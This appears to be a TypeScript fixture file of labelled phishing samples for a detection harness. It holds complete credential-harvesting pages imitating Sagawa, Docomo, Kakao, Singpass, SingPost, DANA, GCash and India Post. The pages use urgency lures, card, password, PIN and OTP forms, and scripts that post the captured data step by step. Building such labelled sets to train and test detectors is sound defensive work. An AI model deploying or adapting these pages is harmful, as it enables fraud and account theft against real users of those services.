import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, icons, iconHead } from '../parts/ze-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
  id: 'ze-phish-jp-sagawa-fuzai-card',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://sagawa-exp.fuzai-renraku.com/?c=8f2k1',
  routes: {
    'sagawa-exp.fuzai-renraku.com/': redirectRoute(302, 'https://sagawa-exp.fuzai-renraku.com/tracking/redelivery.html'),
    'sagawa-exp.fuzai-renraku.com/tracking/redelivery.html': htmlRoute(doc({
      lang: 'ja',
      title: '佐川急便株式会社 - 再配達のご依頼',
      css: '.hd{background:#004ea2;color:#fff;padding:12px 0}.c{max-width:560px;margin:20px auto}.st{background:#f5f5f5;padding:12px;border-left:4px solid #004ea2}.b{background:#004ea2;color:#fff;width:100%;margin-top:14px}',
      body: `<div class="hd"><div class="wrap">SAGAWA 佐川急便</div></div><div class="c">
<div class="st">お問い合せ送り状番号：3618-4402-9915<br>配達状況：<b style="color:#c00">ご不在のため持ち帰りました</b><br>保管期限：本日まで</div>
<p>お荷物の住所情報が不完全なため、再配達手数料 <b>330円</b> のお支払いが必要です。</p>
<form method="post" action="/tracking/pay.php"><label>お名前</label><input name="name"><label>郵便番号</label><input name="zip"><label>ご住所</label><input name="addr"><label>電話番号</label><input name="tel">
<label>クレジットカード番号</label><input name="card" maxlength="19"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvc" maxlength="4">
<button class="b">再配達を依頼する</button></form></div>`,
    })),
  },
},
  {
  id: 'ze-phish-jp-docomo-daccount-points',
  label: 'phishing',
  kind: 'telecom-kit',
  url: 'https://id-smt-docomo.dpoint-kikan.net/cgi8/id/login',
  body: doc({
    lang: 'ja',
    title: 'dアカウント ログイン | NTTドコモ',
    css: '.c{max-width:420px;margin:40px auto;text-align:center}.r{background:#cc0033;color:#fff;width:100%;margin-top:14px;border-radius:24px}input{text-align:left}',
    body: `<div class="c"><h2 style="color:#cc0033">docomo</h2><h3>dアカウントでログイン</h3>
<p style="font-size:13px;background:#fdecef;padding:8px">保有dポイント <b>12,580pt</b> の有効期限が本日までです。ログインして期間延長の手続きを行ってください。</p>
<form method="post" action="/cgi8/id/auth"><input name="id" placeholder="dアカウントのID/メールアドレス/電話番号"><br><br><input name="pw" type="password" placeholder="パスワード"><button class="r">ログイン</button></form>
<p style="font-size:12px"><a href="#">ID・パスワードを忘れた方</a></p><p style="font-size:11px;color:#999">© NTT DOCOMO</p></div>`,
  }),
},
  {
  id: 'ze-phish-kr-kakao-account-protect',
  label: 'phishing',
  kind: 'messaging-kit',
  url: 'https://accounts-kakao.protect-login.kr.ua/login?continue=talk',
  routes: {
    'accounts-kakao.protect-login.kr.ua/login': htmlRoute(doc({
      lang: 'ko',
      title: '카카오계정',
      css: 'body{background:#f5f6f7}.c{max-width:380px;margin:60px auto;background:#fff;padding:30px}.y{background:#fee500;color:#191919;width:100%;margin-top:12px}',
      body: `<div class="c"><h2>kakao</h2><p style="font-size:13px;color:#e00">해외 IP에서 로그인 시도가 감지되어 보호조치가 적용되었습니다. 본인 확인 후 이용 가능합니다.</p>
<form id="f"><input name="loginId" placeholder="카카오메일 아이디, 이메일, 전화번호"><br><br><input name="password" type="password" placeholder="비밀번호"><button class="y">로그인</button></form>
<p style="font-size:12px;color:#888">회원가입 · 계정 찾기 · 비밀번호 재설정</p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));d.append('t',Date.now());navigator.sendBeacon('/api/v2/log',d);location.href='/login/sms?step=2'}</script>`,
    })),
  },
},
  {
  id: 'ze-phish-sg-singpass-qr-cpf',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://singpass-gov.sg-login.app/cpf/payout',
  routes: {
    ...icons('singpass-gov.sg-login.app', 240, 70, 80),
    'singpass-gov.sg-login.app/cpf/payout': htmlRoute(doc({
      lang: 'en-SG',
      title: 'Singpass - Log in to CPF Board',
      head: iconHead,
      css: '.c{max-width:460px;margin:40px auto;border:1px solid #ddd;padding:26px;border-radius:8px}.r{background:#f4333d;color:#fff;width:100%;margin-top:14px}.tab{display:flex;gap:20px;border-bottom:1px solid #ddd;margin-bottom:12px}',
      body: `<div class="c"><img src="/img/logo.png" width="24" height="24" alt=""> <b style="color:#f4333d">singpass</b>
<p>Log in to <b>CPF Board</b> to receive your Assurance Package cash payout of S$600.</p>
<div class="tab"><span>Singpass app</span><b>Password login</b></div>
<form method="post" action="/cpf/next"><label>Singpass ID</label><input name="nric" placeholder="S1234567A"><label>Password</label><input name="pw" type="password"><button class="r">Log in</button></form>
<p style="font-size:12px">On the next step you will be asked to verify your bank card to receive the payout.</p></div>
<footer><div class="wrap">Singpass is a service by GovTech. © 2025 Government of Singapore</div></footer>`,
    })),
  },
},
  {
  id: 'ze-phish-sg-singpost-held-parcel',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://singpost.parcel-held.sbs/sg/',
  body: doc({
    lang: 'en-SG',
    title: 'SingPost | Your parcel is on hold',
    css: '.t{background:#e2001a;color:#fff;padding:12px 0}.c{max-width:520px;margin:20px auto}.b{background:#e2001a;color:#fff}',
    body: `<div class="t"><div class="wrap">SingPost</div></div><div class="c"><h3>Your parcel is on hold at our warehouse</h3>
<p>Tracking No: SG2025118843220. Reason: Unpaid customs duty (S$2.98). Please pay within 48 hours, or the parcel will be returned to sender.</p>
<form method="post" action="pay"><label>Full name</label><input name="n"><label>Postal code</label><input name="pc"><label>Card number</label><input name="card"><label>MM/YY</label><input name="exp"><label>CVV</label><input name="cvv"><button class="b">Pay S$2.98</button></form></div>`,
  }),
},
  {
  id: 'ze-phish-id-dana-kaget-login',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://link-dana-kaget.dana-id.click/',
  body: doc({
    lang: 'id',
    title: 'DANA Kaget - Klaim Saldo Rp 2.500.000',
    css: 'body{background:#118eea}.c{max-width:400px;margin:30px auto;background:#fff;padding:22px;border-radius:14px;text-align:center}.b{background:#118eea;color:#fff;width:100%;margin-top:12px}',
    body: `<div class="c"><h2 style="color:#118eea">DANA</h2><p>Selamat! Kamu dapat <b>DANA Kaget Rp 2.500.000</b> dari teman kamu. Masukkan nomor DANA untuk klaim.</p>
<form id="f"><div id="a"><input id="hp" placeholder="08xx-xxxx-xxxx"><button class="b" type="button" onclick="a.style.display='none';b.style.display='block'">Lanjut</button></div>
<div id="b" style="display:none"><p>Masukkan PIN DANA kamu</p><input id="pin" type="password" maxlength="6"><button class="b" type="button" onclick="a2()">Konfirmasi</button></div>
<div id="c" style="display:none"><p>Kode OTP dikirim via SMS/WhatsApp</p><input id="otp" maxlength="4"><button class="b" type="button" onclick="a3()">Verifikasi</button></div></form></div>
<script>function s(x){fetch('/api/kirim.php',{method:'POST',body:JSON.stringify(x)})}function a2(){s({hp:hp.value,pin:pin.value});b.style.display='none';c.style.display='block'}function a3(){s({hp:hp.value,otp:otp.value});alert('Saldo sedang diproses, mohon tunggu 1x24 jam')}</script>`,
  }),
},
  {
  id: 'ze-phish-ph-gcash-mpin-otp',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://gcash-verify.ph-gc.online/login',
  routes: {
    'gcash-verify.ph-gc.online/login': htmlRoute(doc({
      lang: 'en-PH',
      title: 'GCash',
      css: 'body{background:#007cff;color:#fff;text-align:center}.c{max-width:380px;margin:40px auto}.b{background:#fff;color:#007cff;width:100%;margin-top:14px;border-radius:24px;font-weight:bold}input{text-align:center;font-size:22px;letter-spacing:8px}',
      body: `<div class="c"><h1>GCash</h1><p id="m">Your GCash account is temporarily restricted. Verify to lift the restriction and claim your ₱1,500 GGives rebate.</p>
<div id="s1"><input id="num" placeholder="09XX XXX XXXX" style="letter-spacing:2px"><button class="b" onclick="go(1)">Next</button></div>
<div id="s2" style="display:none"><p>Enter your 4-digit MPIN</p><input id="mpin" type="password" maxlength="4"><button class="b" onclick="go(2)">Log in</button></div>
<div id="s3" style="display:none"><p>We sent a 6-digit authentication code</p><input id="otp" maxlength="6"><button class="b" onclick="go(3)">Submit</button></div></div>
<script src="/static/gc.js"></script>`,
    })),
    'gcash-verify.ph-gc.online/static/gc.js': jsRoute(`function go(n){var v={1:num.value,2:mpin.value,3:otp.value}[n];fetch('/static/t.php?s='+n,{method:'POST',body:v});document.getElementById('s'+n).style.display='none';var nx=document.getElementById('s'+(n+1));if(nx){nx.style.display='block'}else{document.getElementById('m').textContent='Verification in progress. Please do not close this page.'}}`),
  },
},
  {
  id: 'ze-phish-in-indiapost-address-update',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://indiapost-track.in-parcel.top/in/',
  body: doc({
    lang: 'en-IN',
    title: 'India Post - Track Consignment',
    css: '.t{background:#c8102e;color:#fff;padding:12px 0}.c{max-width:520px;margin:20px auto}.b{background:#c8102e;color:#fff}',
    body: `<div class="t"><div class="wrap">India Post · भारतीय डाक</div></div><div class="c"><h3>Consignment EE448193207IN arrived at warehouse</h3>
<p>We attempted delivery twice but could not deliver due to incomplete address information. Please update your address within 12 hours, otherwise the package will be returned. A nominal fee of ₹25 applies.</p>
<form method="post" action="/in/upd"><label>Name</label><input name="n"><label>Address</label><input name="a"><label>PIN code</label><input name="pin"><label>Mobile</label><input name="m"><label>Debit/Credit Card</label><input name="cc"><label>Expiry</label><input name="e"><label>CVV</label><input name="cv"><button class="b">Update & Pay ₹25</button></form></div>`,
  }),
},
];
